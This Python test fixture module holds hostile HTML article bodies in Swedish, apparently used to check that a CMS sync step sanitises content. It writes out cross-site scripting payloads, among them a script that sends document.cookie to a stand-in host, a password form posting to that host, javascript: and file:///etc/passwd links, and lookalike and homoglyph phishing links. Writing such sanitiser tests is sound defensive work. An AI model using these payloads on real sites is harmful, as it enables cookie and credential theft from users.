"""Article texts that no careful reader shows as they are: each is named in news.json as a body of "HOSTILE:<name>".

They prove that what sync keeps has been cleaned. Nothing in them works by itself: hosts end in .example or .invalid.
"""

_MARKER = "HOSTILE:"
_DEEP = 400
_LONG_ROW = 120

_SCRIPT = """<p>Rösta på en av <b>tre</b> rätter.</p>
<script>document.location='https://stjal.invalid/?kaka='+document.cookie</script>
<p onclick="alert('klick')" style="position:fixed;top:0;left:0;width:100vw;height:100vh">Linsgryta med bröd</p>
<iframe src="https://stjal.invalid/ram" width="1" height="1"></iframe>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<style>body{display:none}@import url(https://stjal.invalid/stil.css);</style>
<p>Fiskgratäng med ärtor</p><math><mtext><img src=x onerror=alert(3)></mtext></math>"""

_PICTURES = """<p>Platserna närmast entrén är till för besökare.</p>
<img src="x" onerror="alert('bild')" alt="Karta över platserna">
<img src="file:///etc/passwd" alt="Lokal fil">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="Inbäddad">
<img src="https://sparning.invalid/pixel.gif?vem=dig" width="1" height="1" alt="">
<img src="//sparning.invalid/pixel.png" alt=""><img src="cid:bild001@mejl" alt="Bild ur mejl">
<img srcset="https://sparning.invalid/stor.png 2x" src="{origin}/globalassets/nyheter/town-1.jpg" alt="Entrén">
<video src="https://sparning.invalid/film.mp4" autoplay></video><p>Frågor? Ring receptionen.</p>"""

_LINKS = """<p>Svara på <a href="javascript:alert('svar')">enkäten</a> senast på fredag.</p>
<p><a href="JaVaScRiPt:alert(1)">Svara här</a>, <a href="java&#10;script:alert(1)">eller här</a>,
<a href="data:text/html,<script>alert(1)</script>">eller här</a>, <a href="vbscript:msgbox(1)">eller här</a>.</p>
<p><a href="file:///C:/Windows/system.ini">Bilaga</a>, <a href="\\\\server\\hemligt">delad mapp</a>,
<a href="ms-msdt:/id PCWDiagnostic">verktyg</a>, <a href="smb://server/mapp">mapp</a>.</p>
<p><a href="https://www.nacka.se@stjal.invalid/enkat">https://www.nacka.se/enkat</a> ser ut som vår egen adress.</p>
<p><a href="https://xn--ncka-8ta.invalid/">nаcka.se</a> har en bokstav ur ett annat alfabet.</p>
<p>Det går bra att ringa <a href="tel:+4687188000">växeln</a> eller skriva till
<a href="mailto:enkat@nacka.example">enkat@nacka.example</a>. <a href="/medarbetare/">Till medarbetarsidorna</a>.</p>"""

_FORMS = """<p>Skriv ditt lösenord nedan för att prova.</p>
<form action="https://stjal.invalid/in" method="post"><input name="namn" value="Namn"><input type="password">
<button formaction="javascript:alert(1)">Logga in</button><textarea>Anteckning</textarea></form>
<meta http-equiv="refresh" content="0;url=https://stjal.invalid/"><base href="https://stjal.invalid/">
<object data="https://stjal.invalid/a.swf"></object><embed src="https://stjal.invalid/b.swf">
<link rel="stylesheet" href="https://stjal.invalid/c.css">
<p>Vi frågar aldrig efter ditt lösenord på det här sättet.</p>"""

_FILES = """<p>Den första bilden är bra, de andra fyra är inte vad de ser ut att vara.</p>
<img src="{origin}/globalassets/nyheter/harbour-1.jpg" alt="Kvällsljus över vattnet">
<img src="{origin}/globalassets/nyheter/prov/webbsida.png" alt="En webbsida som kallar sig bild">
<img src="{origin}/globalassets/nyheter/prov/ritning.svg" alt="En ritning med skript">
<img src="{origin}/globalassets/nyheter/prov/enorm.png" alt="En bild på 30 000 gånger 30 000 punkter">
<img src="{origin}/globalassets/nyheter/prov/avbruten.jpg" alt="En bild som tar slut mitt i">
<img src="{origin}/globalassets/nyheter/prov/finns-inte.jpg" alt="En bild som inte finns">"""


def is_hostile(body: tuple[str, ...]) -> bool:
    """Whether a body only names one of these texts."""
    return bool(body) and body[0].startswith(_MARKER)


def hostile_html(body: tuple[str, ...], origin: str) -> str:
    """The text that a body names; ``origin`` is the CMS's own address, for pictures that are allowed."""
    return _TEXTS[body[0].removeprefix(_MARKER)].replace("{origin}", origin)


def _deep() -> str:
    nested = "<div>" * _DEEP + "längst in" + "</div>" * _DEEP
    row = "<tr>" + "<td>1</td>" * _LONG_ROW + "</tr>"
    return (
        f"<p>Formuläret är kortare &amp; enklare. 5 &lt; 7.</p>{nested}<table>{row}</table>"
        "<p>Oavslutad <b>fetstil <i>och kursiv</p><p>&#x202E;baklänges&#x202C; &#0; &#xFFFF; <!-- dold -->"
        "<![CDATA[ rådata ]]></p><p>Slut."
    )


_TEXTS = {
    "script": _SCRIPT,
    "pictures": _PICTURES,
    "links": _LINKS,
    "forms": _FORMS,
    "files": _FILES,
    "deep": _deep(),
}
